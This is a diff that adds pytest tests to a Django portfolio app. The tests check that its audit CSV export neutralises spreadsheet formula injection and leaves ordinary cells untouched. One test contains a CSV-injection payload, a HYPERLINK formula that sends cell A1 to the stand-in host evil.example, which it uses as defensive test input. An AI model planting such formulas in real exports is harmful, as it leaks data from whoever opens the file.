@@ -191,3 +191,36 @@ def test_retired_strategies_keep_their_history(client_as, demo):
     client_as("risk").post(BASE + "/strategies/tech-0001/retire/", {}, format="json")
     assert Strategy.objects.get(portfolio=demo, code="tech-0001").status == "retired"
     assert client_as("viewer").get(BASE + "/returns/?strategy=tech-0001").json()["count"] == 60
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_audit_export_defuses_cells_a_spreadsheet_would_run(client_as, demo, start):
+    """Issue 21 item 19 (OWASP CSV injection): a reason such as =HYPERLINK(...) was exported as is and
+    ran as a formula in the spreadsheet that opened it."""
+    from django.db import transaction
+
+    from allocations.services.actors import Actor
+    from allocations.services.audit import audit_append
+
+    reason = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    with transaction.atomic():
+        audit_append(portfolio=demo, actor=Actor.system("test"), kind="policy_change", reason=reason)
+    response = client_as("viewer").get(BASE + "/audit/export.csv?kind=policy_change")
+    text = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["reason"] for r in rows if "HYPERLINK" in r["reason"]] == ["'" + reason]
+    assert all(not r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
+
+
+def test_the_audit_export_leaves_ordinary_cells_alone(client_as, demo):
+    response = client_as("viewer").get(BASE + "/audit/export.csv?kind=fund_change")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    entries = AuditEntry.objects.filter(portfolio=demo, kind="fund_change").order_by("seq")
+    by_id = {int(r["id"]): r for r in rows}
+    for entry in entries[:20]:
+        row = by_id[entry.pk]
+        assert (row["reason"], row["entry_hash"], Decimal(row["new_amount"])) == (
+            entry.reason,
+            entry.entry_hash,
+            entry.new_amount,
+        )
